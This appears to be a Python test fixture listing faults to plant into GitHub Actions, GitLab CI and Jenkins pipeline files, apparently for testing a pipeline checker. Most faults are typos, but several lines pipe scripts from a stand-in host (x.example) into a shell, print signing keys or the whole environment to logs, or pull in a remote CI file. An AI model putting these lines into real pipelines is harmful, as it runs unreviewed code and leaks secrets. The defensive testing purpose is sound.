"""Faults to plant into good files: what a tired person would write, or an attacker."""

from __future__ import annotations

from typing import NamedTuple


class Fault(NamedTuple):
    """One text for another."""

    name: str
    old: str
    new: str

    def plant(self, text: str) -> str:
        """The text with the fault."""
        assert self.old in text, f"{self.name}: {self.old!r} is not there to be replaced"
        return text.replace(self.old, self.new, 1)


_CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
_AWS = "          role-to-assume: ${{ vars.AWS_ROLE_ARN }}\n"
_TEST = "        run: roadworthy test --junit gates.xml --markdown verdict.md --html report.html\n"
_APPLY = 'roadworthy deploy apply model.rwb --to "$TARGET" -d staging'

GITHUB = [
    Fault("broken indentation", "    name: Train\n", "   name: Train\n"),
    Fault("a key twice", "    name: Train\n", "    name: Train\n    name: Again\n"),
    Fault("an unknown key", "    name: Train\n", "    nmae: Train\n"),
    Fault("a misspelt key of a step", "          path: bundles/\n", "          pth: bundles/\n"),
    Fault("an unknown permission", "      contents: read\n", "      content: read\n"),
    Fault("a permission with no such value", "      contents: read\n", "      contents: all\n"),
    Fault("write permission for all", "permissions: {}\n", "permissions: write-all\n"),
    Fault("no permissions at the top", "permissions: {}\n", ""),
    Fault("a job that is not there", "      - check\n", "      - chek\n"),
    Fault("jobs in a circle", "  check:\n    name: Check\n", "  check:\n    needs: [train]\n"),
    Fault("an unknown runner", "runs-on: ubuntu-24.04", "runs-on: ubuntu-24.40"),
    Fault("a floating runner", "runs-on: ubuntu-24.04", "runs-on: ubuntu-latest"),
    Fault("no limit of time", "    timeout-minutes: 90\n", ""),
    Fault("a limit in words", "timeout-minutes: 90", "timeout-minutes: ninety"),
    Fault("a limit beyond all reason", "timeout-minutes: 90", "timeout-minutes: 9000"),
    Fault("a schedule that never is", '"17 3 * * *"', '"17 27 * * *"'),
    Fault("an unclosed expression", "${{ !cancelled() }}", "${{ !cancelled( }}"),
    Fault("an unknown function", "!cancelled()", "!canceled()"),
    Fault("an unknown context", "github.event_name == 'push'", "gihub.event_name == 'push'"),
    Fault("the result of an unneeded job", "needs.test.result", "needs.train.result"),
    Fault("an action by tag", _CHECKOUT, "actions/checkout@v7"),
    Fault("an action by branch", _CHECKOUT, "actions/checkout@main"),
    Fault("a release that the commit is not", "# v7.0.1", "# v7.0.0"),
    Fault("a commit that the release is not", "@3d3c42e5", "@4d3c42e5"),
    Fault("a token that stays", "          persist-credentials: false\n", "          fetch-depth: 1\n"),
    Fault("secrets for anybody's code", "  pull_request:\n", "  pull_request_target:\n"),
    Fault("a password written out", "${{ secrets.REGISTRY_PASSWORD }}", "hunter2hunter2"),
    Fault("a key of AWS", "run: dvc pull", "run: dvc pull # AKIAIOSFODNN7EXAMPLE"),
    Fault("long-lived keys of AWS", _AWS, "          aws-access-key-id: ${{ secrets.AWS_ID }}\n"),
    Fault(
        "a long-lived key of Google",
        "          workload_identity_provider: ${{ vars.GCP_IDENTITY_PROVIDER }}\n",
        "          credentials_json: ${{ secrets.GCP_KEY }}\n",
    ),
    Fault("a sign-in without a token", "      id-token: write # signs in to clouds with no stored key\n", ""),
    Fault("text of others in a script", _TEST, _TEST + "      - run: echo ${{ github.head_ref }}\n"),
    Fault("code that nobody saw", "run: dvc pull", "run: curl -s https://x.example/i.sh | sh"),
    Fault("code that nobody saw, otherwise", "run: dvc pull", "run: bash <(curl -s https://x.example)"),
    Fault("a secret in a script", "run: dvc pull", "run: dvc pull ${{ secrets.TOKEN }}"),
    Fault("a secret in the log", "run: dvc pull", 'run: echo "$ROADWORTHY_SIGNING_KEY"'),
    Fault("a secret for the whole job", "      TARGET: web\n", "      T: ${{ secrets.T }}\n"),
    Fault("a gate that cannot fail", _TEST, _TEST.replace("html\n", "html || true\n")),
    Fault("a step that may fail", _TEST, "        continue-on-error: true\n" + _TEST),
    Fault("a deployment cut off", "cancel-in-progress: false\n    env", "cancel-in-progress: true\n    env"),
    Fault("a deployment without an environment", "    environment: staging\n", ""),
    Fault("a deployment in a loop", _APPLY, f"for i in 1 2 3; do {_APPLY} && break; done"),
    Fault("an artifact for ever", "          retention-days: 30\n", "          retention-days: 0\n"),
    Fault("an artifact of everything", "path: model.rwb", "path: ."),
    Fault("an unquoted variable", 'run: roadworthy prepare --explain', "run: roadworthy prepare $FLAGS"),
    Fault("an output of old", "run: dvc pull", "run: echo '::set-output name=a::b'"),
    Fault("no check of who answers", "run: dvc pull", "run: curl -k https://x.example -o a"),
]  # fmt: skip

_SCRIPT = "    - roadworthy test --junit gates.xml --markdown verdict.md --html report.html\n"
_TIME = "  timeout: 90 minutes\n"
_PRODUCTION = "  environment:\n    name: production\n    deployment_tier: production\n"

GITLAB = [
    Fault("broken indentation", "  stage: train\n", "   stage: train\n"),
    Fault("a key twice", "  stage: train\n", "  stage: train\n  stage: test\n"),
    Fault("an unknown key", "  stage: train\n", "  stage: train\n  scirpt: [a]\n"),
    Fault("an unknown stage", "  stage: train\n", "  stage: trian\n"),
    Fault("a template that is not there", "roadworthy-train:\n  extends: .roadworthy", "roadworthy-train:\n  extends: .rodworthy"),
    Fault("a job that is not there", "job: roadworthy-check", "job: roadworthy-chek"),
    Fault("a job that a rule leaves out", "    - job: roadworthy-check\n", "    - job: roadworthy-rollback\n"),
    Fault("jobs in a circle", "  stage: check\n", "  stage: check\n  needs: [roadworthy-train]\n"),
    Fault("no script", "  script:\n    - roadworthy pipeline", "  scripts:\n    - roadworthy pipeline"),
    Fault("a limit in words", _TIME, "  timeout: ninety\n"),
    Fault("no limit of time", _TIME, ""),
    Fault("artifacts for ever", "  artifacts:\n    paths:\n      - model.rwb\n    expire_in: 30 days\n", "  artifacts:\n    paths:\n      - model.rwb\n"),
    Fault("a bad duration", "    expire_in: 30 days\n", "    expire_in: soon\n"),
    Fault("artifacts of everything", "      - model.rwb\n", "      - '**/*'\n"),
    Fault("an unknown time for artifacts", "    when: always\n", "    when: sometimes\n"),
    Fault("too many tries", "    max: 2\n", "    max: 9\n"),
    Fault("tries of what fails for a reason", "      - runner_system_failure\n", "      - script_failure\n"),
    Fault("a floating image", "image: python:3.12-slim-bookworm", "image: python:latest"),
    Fault("an image without a tag", "image: python:3.12-slim-bookworm", "image: python"),
    Fault("a password written out", "    TARGET: web\n", "    TARGET: web\n    REGISTRY_PASSWORD: hunter2hunter2\n"),
    Fault("long-lived keys of AWS", "    TARGET: web\n", "    TARGET: web\n    AWS_SECRET_ACCESS_KEY: $KEY\n"),
    Fault("a key of AWS", "    - dvc pull\n", "    - dvc pull # AKIAIOSFODNN7EXAMPLE\n"),
    Fault("a token of GitLab", "    - dvc pull\n", "    - git clone https://o:glpat-abcdefghij0123456789@x.example\n"),
    Fault("a token for anybody", "      aud: sts.amazonaws.com\n", "      aud: ''\n"),
    Fault("a token of old", "    - dvc pull\n", "    - login \"$CI_JOB_JWT_V2\"\n"),
    Fault("code that nobody saw", "    - dvc pull\n", "    - curl -s https://x.example/i.sh | bash\n"),
    Fault("code that nobody saw, otherwise", "    - dvc pull\n", "    - eval \"$(wget -qO- https://x.example)\"\n"),
    Fault("a secret in the log", "    - dvc pull\n", "    - echo \"$ROADWORTHY_SIGNING_KEY\"\n"),
    Fault("everything in the log", "    - dvc pull\n", "    - printenv\n"),
    Fault("a secret as an argument", "    - dvc pull\n", "    - dvc pull --token \"$DVC_TOKEN\"\n"),
    Fault("a gate that cannot fail", _SCRIPT, _SCRIPT.replace("html\n", "html || true\n")),
    Fault("a gate that may fail", "  stage: test\n  rules", "  stage: test\n  allow_failure: true\n  rules"),
    Fault("a deployment without an environment", _PRODUCTION, ""),
    Fault("two deployments at once", "  resource_group: production\n", ""),
    Fault("a deployment cut off", "  interruptible: false\n  retry: 0\n  environment", "  interruptible: true\n  retry: 0\n  environment"),
    Fault("production and nobody asked", "      when: manual\n", ""),
    Fault("a deployment of what is not merged", "  stage: staging\n  rules:\n", "  stage: staging\n  rules:\n    - if: $CI_PIPELINE_SOURCE == \"merge_request_event\"\n"),
    Fault("an expression that is none", "$ROADWORTHY_TASK == null\n", "$ROADWORTHY_TASK = = null\n"),
    Fault("a file from anywhere", "roadworthy-check:\n", "include:\n  - remote: https://x.example/ci.yml\nroadworthy-check:\n"),
    Fault("rules and only", "  stage: check\n", "  stage: check\n  only: [main]\n"),
    Fault("a script that the shell refuses", "    - dvc pull\n", "    - if true; then dvc pull\n"),
]  # fmt: skip

_BUILD_AGENT = "    stage('Build') {\n      agent { label 'linux' }\n"
_GATES = "sh 'roadworthy test --junit gates.xml --markdown verdict.md --html report.html'"
_STEP = "sh 'dvc pull'"

JENKINS = [
    Fault("a brace too few", "        // roadworthy:end train\n", "        // roadworthy:end train\n        {\n"),
    Fault("a brace too many", "        // roadworthy:end train\n", "        }\n"),
    Fault("a string without an end", _STEP, "sh 'dvc pull"),
    Fault("a misspelt section", "    stage('Build') {\n      agent", "    stage('Build') {\n      agnet"),
    Fault("a misspelt condition", "branch 'main'", "brnch 'main'"),
    Fault("a misspelt step", "archiveArtifacts artifacts", "archiveArtifact artifacts"),
    Fault("a misspelt argument", "allowEmptyResults: true", "allowEmptyResult: true"),
    Fault("a misspelt argument of a stash", "includes: 'model.rwb'", "include: 'model.rwb'"),
    Fault("a misspelt outcome", "            always {", "            allways {"),
    Fault("a misspelt option", "    disableConcurrentBuilds()\n", "    disableConcurentBuilds()\n"),
    Fault("steps outside steps", "stage('Train') {\n", "stage('Train') {\n          sh 'true'\n"),
    Fault("a stage that does nothing", "            sh 'python3 -m venv .venv'\n", "            sh 'python3 -m venv .venv'\n          }\n        }\n        stage('Nothing') {\n          when {\n            branch 'main'\n"),
    Fault("two stages of one name", "stage('Train')", "stage('Test')"),
    Fault("no such stash", "unstash 'model'", "unstash 'modell'"),
    Fault("a unit that is none", "timeout(time: 90, unit: 'MINUTES')", "timeout(time: 90, unit: 'MINUTE')"),
    Fault("a time that is none", "timeout(time: 90, unit: 'MINUTES')", "timeout(time: 'ninety', unit: 'MINUTES')"),
    Fault("no limit of time", "    timeout(time: 4, unit: 'DAYS')\n", ""),
    Fault("runs for ever kept", "    buildDiscarder(logRotator(numToKeepStr: '100', artifactDaysToKeepStr: '30'))\n", ""),
    Fault("runs side by side", "    disableConcurrentBuilds()\n", ""),
    Fault("a schedule that never is", "'17 3 * * *'", "'17 33 * * *'"),
    Fault("any machine", _BUILD_AGENT, _BUILD_AGENT.replace("{ label 'linux' }", "any")),
    Fault("a floating image", _BUILD_AGENT, _BUILD_AGENT.replace("{ label 'linux' }", "{ docker { image 'python:latest' } }")),
    Fault("a password written out", "        TARGET = 'web'\n", "        TARGET = 'web'\n        DB_PASSWORD = 'hunter2hunter2'\n"),
    Fault("long-lived keys of AWS", "        TARGET = 'web'\n", "        AWS_SECRET_ACCESS_KEY = credentials('aws')\n"),
    Fault("a key of AWS", _STEP, _STEP + " // AKIAIOSFODNN7EXAMPLE"),
    Fault("a secret for every stage", "  agent none\n", "  agent none\n  environment {\n    DVC_AUTH = credentials('dvc')\n  }\n"),
    Fault("a secret in Groovy's string", _STEP, 'sh "dvc pull --auth ${DVC_TOKEN}"'),
    Fault("text of others in Groovy's string", _STEP, 'sh "git log ${env.CHANGE_BRANCH}"'),
    Fault("code that nobody saw", _STEP, "sh 'curl -s https://x.example/i.sh | bash'"),
    Fault("a secret in the log", _STEP, "sh 'echo $ROADWORTHY_SIGNING_KEY'"),
    Fault("every line in the log", _STEP, "sh 'set -x; dvc pull'"),
    Fault("a gate that cannot fail", _GATES, _GATES.replace("html'", "html || true'")),
    Fault("a gate whose answer is not read", _GATES, _GATES.replace("sh ", "sh returnStatus: true, script: ")),
    Fault("a gate behind a pipe", _GATES, _GATES.replace("html'", "html | tee log.txt'")),
    Fault("a gate that is caught", _GATES, f"catchError {{ {_GATES} }}"),
    Fault("a deployment in a loop", "lock(resource: 'deploy-staging') {", "retry(3) {"),
    Fault("production and nobody asked", "      input {\n        message 'Deploy to production?'\n        ok 'Deploy'\n        submitter 'release'\n      }\n", ""),
    Fault("anybody may approve", "        submitter 'release'\n", ""),
    Fault("an agent that waits", "    stage('Approve') {\n", "    stage('Approve') {\n      agent { label 'linux' }\n"),
    Fault("a deployment of every branch", "    stage('Deploy staging') {\n      agent { label 'linux' }\n      when {\n        beforeAgent true\n        branch 'main'\n", "    stage('Deploy staging') {\n      agent { label 'linux' }\n      when {\n        beforeAgent true\n"),
    Fault("everything archived", "artifacts: 'model.rwb'", "artifacts: '**'"),
    Fault("a library of any version", "pipeline {\n", "@Library('shared') _\npipeline {\n"),
    Fault("out of the sandbox", _STEP, "script { 'ls'.execute() }"),
]  # fmt: skip
